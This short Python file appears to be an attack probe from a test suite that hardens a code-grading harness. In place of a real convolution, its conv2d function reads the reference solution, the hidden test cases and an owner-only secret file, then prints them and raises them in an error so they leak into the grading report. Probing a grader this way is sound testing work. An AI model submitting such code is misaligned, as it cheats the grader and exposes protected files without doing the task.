# Reads the reference solution, the exercise's hidden cases and an owner-only file, and prints them into the report.
# modes: strict
# (standard mode reads what the grading user can: security.md, Not covered; the grader's own reads are
# attacked in both modes by h13_input_capture_links)
import glob


def _read_all():
    found = []
    for pattern in ("{SECRET}", "{REPO}/solutions/conv.py", "{REPO}/exercises/exercise-2.yaml"):
        for path in glob.glob(pattern):
            try:
                with open(path) as handle:
                    found.append(handle.read()[-1500:])
            except OSError as err:
                found.append(type(err).__name__)
    return found


def conv2d(x, weight, bias=None, stride=1, padding=0):
    texts = _read_all()
    print("\n".join(texts))
    raise RuntimeError(" | ".join(texts)[:1500])
